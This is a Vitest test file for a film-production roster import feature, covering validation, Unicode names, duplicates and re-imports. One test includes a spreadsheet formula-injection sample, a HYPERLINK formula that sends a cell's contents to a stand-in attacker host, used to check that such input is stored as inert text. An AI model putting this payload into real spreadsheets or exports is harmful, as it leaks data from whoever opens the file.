import { describe, expect, it } from "vitest";
import { withRowEdit } from "@/lib/roster/import/edits";
import { guessMapping } from "@/lib/roster/import/mapping";
import { parseRosterFile } from "@/lib/roster/import/parse";
import { isImportError, type ParsedTable } from "@/lib/roster/import/types";
import { buildPreview, type PreviewRow } from "@/lib/roster/import/validate";
import type { ImportContext } from "@/lib/roster/import/context";
import { contextAfterCommit, fakeContext, fixture } from "./fake-context";

async function table(name: string): Promise<ParsedTable> {
  const result = await parseRosterFile(name, fixture(name));
  if (isImportError(result)) throw new Error(result.error);
  return result;
}

async function preview(name: string, ctx: ImportContext = fakeContext(), edits = {}) {
  const t = await table(name);
  return buildPreview(t, guessMapping(t.headers), ctx, edits);
}

const byRow = (rows: PreviewRow[], n: number) => rows.find((r) => r.rowNumber === n)!;

describe("buildPreview", () => {
  it("previews a clean row: values, new person, canonical role, entry to add", () => {
    const result = buildPreview({ headers: ["Name", "Dept", "Position", "Email"], rows: [[" Maya  Okafor ", "camera", "DP", "Maya@Example.com"]] }, { Name: "creditedName", Dept: "department", Position: "role", Email: "email" }, fakeContext());
    expect(result.rows).toEqual([
      {
        rowNumber: 2,
        values: { creditedName: "Maya Okafor", department: "camera", role: "DP", character: "", email: "maya@example.com", phone: "", pronouns: "", legalName: "", unions: [], notes: "" },
        person: { match: "new" },
        role: { roleId: "dp", roleName: "Director of Photography", departmentId: "camera", departmentName: "Camera", canonical: true, sortKey: 30_001, suggestions: [] },
        errors: [],
        warnings: [],
        alreadyOnRoster: false,
        outcome: "add",
      },
    ]);
    expect(result.summary).toEqual({ rows: 1, ok: 1, withWarnings: 0, withErrors: 0, newPeople: 1, existingPeople: 0, entriesToAdd: 1, entriesSkipped: 0, peopleUpdated: 0, contactConflicts: 0 });
  });

  it("numbers rows from the file, skipping blank lines (ragged.csv)", async () => {
    const { rows } = await preview("ragged.csv");
    expect(rows.map((r) => r.rowNumber)).toEqual([2, 3, 4, 6]);
    expect(byRow(rows, 3)).toMatchObject({ errors: ["The role is missing."], outcome: "error" });
    expect(byRow(rows, 4)).toMatchObject({ role: { roleId: "production-designer" }, errors: [], outcome: "add" });
  });

  it("flags invalid emails, naming them (invalid-email.csv)", async () => {
    const { rows, summary } = await preview("invalid-email.csv");
    expect(byRow(rows, 2)).toMatchObject({ values: { email: "maya@example.com" }, errors: [] });
    expect(byRow(rows, 3).errors).toEqual(['"sam(at)example.com" is not a valid email address.']);
    expect(byRow(rows, 4).errors).toEqual(['"lee@example" is not a valid email address.']);
    expect(summary).toMatchObject({ withErrors: 2, entriesToAdd: 1 });
  });

  it("flags rows without a name (missing-name.csv)", async () => {
    const { rows } = await preview("missing-name.csv");
    expect(rows.map((r) => r.errors)).toEqual([[], ["The name is missing."], ["The name is missing."]]);
    expect(rows.map((r) => r.outcome)).toEqual(["add", "error", "error"]);
  });

  it("flags a 10,000-character cell on its row only (long-cell.csv)", async () => {
    const { rows } = await preview("long-cell.csv");
    expect(byRow(rows, 2).errors).toEqual([]);
    expect(byRow(rows, 3).errors).toEqual(["Notes is 10,000 characters long; the limit is 1,000."]);
  });

  it("NFC-normalizes names in every script (unicode-names.csv)", async () => {
    const { rows, summary } = await preview("unicode-names.csv");
    expect(rows.map((r) => r.values.creditedName)).toEqual(["Amélie Poulain", "黒澤 明", "محمد الأحمد", "דוד כהן", "Сергей Эйзенштейн", "Nguyễn Thị Minh", "Chlo\u00e9 Zhao"]);
    expect(summary).toMatchObject({ rows: 7, ok: 7, newPeople: 7, entriesToAdd: 7 });
  });

  it("keeps Windows-1252 text intact (win1252.csv)", async () => {
    const { rows } = await preview("win1252.csv");
    expect(rows[0]!.values).toMatchObject({ creditedName: "José Núñez", notes: "“Sparky” — day rate €500" });
  });

  it("imports formula-looking text as text, warning about the unknown role (formula-injection.csv)", async () => {
    const { rows } = await preview("formula-injection.csv");
    expect(rows[0]!.values.creditedName).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")');
    expect(rows[1]!.warnings).toEqual(['Unknown role "@SUM(A1:A2)" — kept as typed.']);
  });

  it("builds names from first and last name columns (first-last.csv)", async () => {
    const { rows } = await preview("first-last.csv");
    expect(rows.map((r) => r.values.creditedName)).toEqual(["Maya Okafor", "Madonna"]);
  });

  it("reads a workbook's unions, phones and row numbers (several-sheets.xlsx)", async () => {
    const { rows } = await preview("several-sheets.xlsx");
    expect(rows.map((r) => r.rowNumber)).toEqual([2, 3, 5]);
    expect(byRow(rows, 2).values).toMatchObject({ creditedName: "Maya Okafor", email: "maya@example.com", phone: "4155550100", unions: ["DGA", "SAG-AFTRA"] });
    expect(byRow(rows, 3)).toMatchObject({ values: { unions: ["Other"] }, warnings: ['Unknown union "Local 728" — saved as "Other".'] });
    expect(byRow(rows, 5).values.unions).toEqual(["Editors Guild"]);
  });

  it("warns about an unknown role with a suggestion", () => {
    const { rows } = buildPreview({ headers: ["Name", "Role"], rows: [["Maya", "Direktor of Fotography"]] }, { Name: "creditedName", Role: "role" }, fakeContext());
    expect(rows[0]!.warnings).toEqual(['Unknown role "Direktor of Fotography" — did you mean "Director of Photography"?']);
    expect(rows[0]!.role).toMatchObject({ roleId: null, roleName: "Direktor of Fotography", canonical: false });
    expect(rows[0]!.outcome).toBe("add");
  });

  it("merges duplicates inside the file and skips repeated entries (duplicates.csv)", async () => {
    const { rows, summary } = await preview("duplicates.csv");
    expect(rows.map((r) => [r.rowNumber, r.person.match, r.duplicateOfRow, r.outcome])).toEqual([
      [2, "new", undefined, "add"],
      [3, "new", undefined, "add"],
      [4, "new", 2, "skip"],
      [5, "new", 2, "add"],
      [6, "new", undefined, "add"],
      [7, "new", 2, "add"],
    ]);
    expect(byRow(rows, 4).warnings).toEqual(["Same person as row 2 — merged with row 2.", "Same person and role as row 2 — will be skipped."]);
    expect(byRow(rows, 6).warnings).toEqual(["Row 3 has the same name with a different email — will add a separate person."]);
    expect(summary).toEqual({ rows: 6, ok: 2, withWarnings: 4, withErrors: 0, newPeople: 3, existingPeople: 0, entriesToAdd: 5, entriesSkipped: 1, peopleUpdated: 0, contactConflicts: 0 });
  });

  it("uses directory people and skips entries already on the roster", () => {
    const ctx = fakeContext({
      people: [{ id: "p-maya", creditedName: "Maya Okafor", email: "maya@example.com" }],
      entries: [{ personId: "p-maya", department: "Camera", role: "Director of Photography" }],
    });
    const { rows, summary } = buildPreview(
      { headers: ["Name", "Role"], rows: [["Maya Okafor", "DP"], ["Maya Okafor", "Director"]] },
      { Name: "creditedName", Role: "role" },
      ctx,
    );
    expect(rows[0]).toMatchObject({ person: { match: "existing", personId: "p-maya" }, alreadyOnRoster: true, outcome: "skip" });
    expect(rows[0]!.warnings).toEqual([
      '"Maya Okafor" is already in your people directory — will use that person.',
      "Already on the roster as Director of Photography (Camera) — will be skipped.",
    ]);
    expect(rows[1]).toMatchObject({ person: { match: "existing", personId: "p-maya" }, duplicateOfRow: 2, alreadyOnRoster: false, outcome: "add" });
    expect(summary).toMatchObject({ newPeople: 0, existingPeople: 1, entriesToAdd: 1, entriesSkipped: 1 });
  });

  it.each(["duplicates.csv", "unicode-names.csv", "several-sheets.xlsx", "ragged.csv", "first-last.csv", "utf16.txt"])(
    "adds nothing when %s is imported a second time",
    async (name) => {
      const first = await preview(name);
      expect(first.summary.entriesToAdd).toBeGreaterThan(0);
      const second = await preview(name, contextAfterCommit(first, fakeContext()));
      expect(second.summary).toMatchObject({ entriesToAdd: 0, newPeople: 0, withErrors: first.summary.withErrors });
      expect(second.summary.entriesSkipped).toBe(first.summary.entriesToAdd + first.summary.entriesSkipped);
      expect(second.rows.filter((r) => r.outcome !== "error").every((r) => r.person.match === "existing")).toBe(true);
    },
  );

  it("adds only the new rows of a file imported again with more people", async () => {
    const first = await preview("duplicates.csv");
    const t = await table("duplicates.csv");
    const grown = { ...t, rows: [...t.rows, ["Lee Chen", "Editorial", "Editor", "lee@example.com"]], rowNumbers: [...t.rowNumbers, 8] };
    const second = buildPreview(grown, guessMapping(t.headers), contextAfterCommit(first, fakeContext()));
    expect(second.summary).toMatchObject({ entriesToAdd: 1, newPeople: 1 });
    expect(second.rows.filter((r) => r.outcome === "add").map((r) => r.rowNumber)).toEqual([8]);
  });

  it("applies corrections by row number over the file's cells", async () => {
    const before = await preview("invalid-email.csv");
    expect(byRow(before.rows, 3).outcome).toBe("error");
    const fixed = await preview("invalid-email.csv", fakeContext(), withRowEdit({}, 3, { email: "sam@example.com" }));
    expect(byRow(fixed.rows, 3)).toMatchObject({ values: { email: "sam@example.com" }, errors: [], outcome: "add" });
    expect(fixed.summary.withErrors).toBe(1);
  });

  it("re-derives other rows after a correction (a fixed email can make a duplicate)", async () => {
    const t = { headers: ["Name", "Role", "Email"], rows: [["Maya Okafor", "Gaffer", "maya@example.com"], ["M. O.", "Editor", "maya(at)example.com"]] };
    const mapping = guessMapping(t.headers);
    const edited = buildPreview(t, mapping, fakeContext(), { 3: { email: "maya@example.com" } });
    expect(edited.rows[1]).toMatchObject({ duplicateOfRow: 2, outcome: "add", errors: [] });
    expect(edited.summary.newPeople).toBe(1);
  });

  it("makes a role canonical when the user picks the suggestion", () => {
    const t = { headers: ["Name", "Role"], rows: [["Maya", "Direktor of Fotography"]] };
    const { rows } = buildPreview(t, guessMapping(t.headers), fakeContext());
    const picked = buildPreview(t, guessMapping(t.headers), fakeContext(), { 2: { role: rows[0]!.role.suggestions[0]!.name } });
    expect(picked.rows[0]).toMatchObject({ role: { roleId: "dp", canonical: true }, warnings: [] });
  });

  it("does not link rows with errors to people", () => {
    const ctx = fakeContext({ people: [{ id: "p-maya", creditedName: "Maya Okafor", email: null }] });
    const { rows } = buildPreview({ headers: ["Name", "Role"], rows: [["Maya Okafor", ""], ["Maya Okafor", "Gaffer"]] }, { Name: "creditedName", Role: "role" }, ctx);
    expect(rows[0]).toMatchObject({ person: { match: "new" }, outcome: "error" });
    expect(rows[1]).toMatchObject({ person: { match: "existing", personId: "p-maya" } });
    expect(rows[1]!.duplicateOfRow).toBeUndefined();
  });

  it("previews 20,000 rows", () => {
    const rows = Array.from({ length: 20_000 }, (_, i) => [`Person ${i}`, i % 2 ? "Gaffer" : "DP", `p${i}@example.com`]);
    const result = buildPreview({ headers: ["Name", "Role", "Email"], rows }, { Name: "creditedName", Role: "role", Email: "email" }, fakeContext());
    expect(result.summary).toMatchObject({ rows: 20_000, ok: 20_000, newPeople: 20_000, entriesToAdd: 20_000 });
    expect(result.rows.at(-1)!.rowNumber).toBe(20_001);
  });
});
